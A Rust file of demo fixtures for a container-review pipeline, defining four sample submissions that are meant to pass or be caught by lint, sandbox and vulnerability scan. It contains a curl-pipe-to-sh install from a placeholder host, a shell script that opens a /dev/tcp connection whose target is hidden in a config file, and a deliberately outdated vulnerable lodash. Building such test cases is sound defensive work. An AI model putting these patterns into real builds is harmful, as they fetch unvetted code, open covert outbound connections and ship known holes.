//! The demo's submissions: one for each way that a submission can end.

/// A submission as its author would have it in a folder.
#[derive(Debug, Clone, Copy)]
pub struct Sample {
    /// The module's name.
    pub slug: &'static str,
    /// Who sends it.
    pub submitter: &'static str,
    /// What the submitter writes to the reviewer.
    pub notes: &'static str,
    /// Path, content.
    pub files: &'static [(&'static str, &'static str)],
}

/// The reviewer of the demo.
pub const REVIEWER: &str = "rex";

/// The base that every sample builds on: this host's own tools under the name that Dockerfiles use.
pub const BASE: &str = "debian:12-slim";

/// All samples, in the order in which they arrive.
pub const SAMPLES: &[Sample] = &[GREETER, FETCHER, PHONER, SHOP];

/// Goes all the way.
const GREETER: Sample = Sample {
    slug: "greeter",
    submitter: "ann",
    notes: "Says hello. Two stages, no network, not root.",
    files: &[
        (
            "Dockerfile",
            r#"# A greeting, made in one stage and served from another.
FROM debian:12-slim AS builder
WORKDIR /src
COPY src ./
ARG GREETING=hello
RUN <<MAKE
set -eu
mkdir -p /out
sed "s/@GREETING@/$GREETING/" greet.sh.in > /out/greet
chmod 755 /out/greet
sha256sum /out/greet
MAKE

FROM debian:12-slim
LABEL org.opencontainers.image.title="greeter" \
      org.opencontainers.image.licenses="MIT"
COPY --from=builder /out/greet /usr/local/bin/greet
USER nobody
HEALTHCHECK --interval=30s CMD ["/usr/local/bin/greet", "--check"]
ENTRYPOINT ["/usr/local/bin/greet"]
"#,
        ),
        (
            "src/greet.sh.in",
            "#!/bin/sh\n[ \"${1-}\" = --check ] && exit 0\necho \"@GREETING@, ${1-world}\"\n",
        ),
        (".dockerignore", ".git\n*.md\n"),
        (
            "README.md",
            "# greeter\n\nNot sent: .dockerignore leaves it out.\n",
        ),
    ],
};

/// Lint turns it away: it installs from the network.
const FETCHER: Sample = Sample {
    slug: "weather",
    submitter: "ben",
    notes: "Shows the weather. I need curl for that.",
    files: &[(
        "Dockerfile",
        r#"FROM debian:12-slim
RUN apt-get update && apt-get install -y curl
RUN curl -fsSL https://weather.example/install.sh | sh
CMD ["weather", "--today"]
"#,
    )],
};

/// Reads well, for where its script dials to stands in a file that no linter takes for code: the sandbox refuses.
const PHONER: Sample = Sample {
    slug: "metrics",
    submitter: "cleo",
    notes: "Collects numbers. configure.sh sets it up.",
    files: &[
        (
            "Dockerfile",
            r#"FROM debian:12-slim
WORKDIR /app
COPY . .
RUN ["bash", "./configure.sh"]
USER nobody
CMD ["bash", "./metrics.sh"]
"#,
        ),
        (
            "configure.sh",
            "echo 'configuring metrics'\n\
             read -r settings < settings.conf\n\
             echo 'fetching the newest settings'\n\
             exec 3<>\"$settings\" || exit 1\n",
        ),
        ("settings.conf", "/dev/tcp/settings.metrics.example/443\n"),
        ("metrics.sh", "while sleep 60; do date; done\n"),
    ],
};

/// Builds, but carries a library with a known hole: the scan refuses.
const SHOP: Sample = Sample {
    slug: "shop",
    submitter: "dora",
    notes: "A small shop. node_modules are vendored, as the rules ask.",
    files: &[
        (
            "Dockerfile",
            r#"FROM debian:12-slim
WORKDIR /app
COPY package.json ./
COPY node_modules ./node_modules
COPY src ./src
USER nobody
ENTRYPOINT ["sh", "src/start.sh"]
"#,
        ),
        (
            "package.json",
            "{\n  \"name\": \"shop\",\n  \"version\": \"1.0.0\",\n  \"dependencies\": { \"lodash\": \"4.17.4\" }\n}\n",
        ),
        (
            "node_modules/lodash/package.json",
            "{\n  \"name\": \"lodash\",\n  \"version\": \"4.17.4\",\n  \"license\": \"MIT\",\n  \"main\": \"lodash.js\"\n}\n",
        ),
        ("node_modules/lodash/lodash.js", "module.exports = {};\n"),
        (
            "src/start.sh",
            "echo 'the shop is open'\nexec sleep 86400\n",
        ),
    ],
};
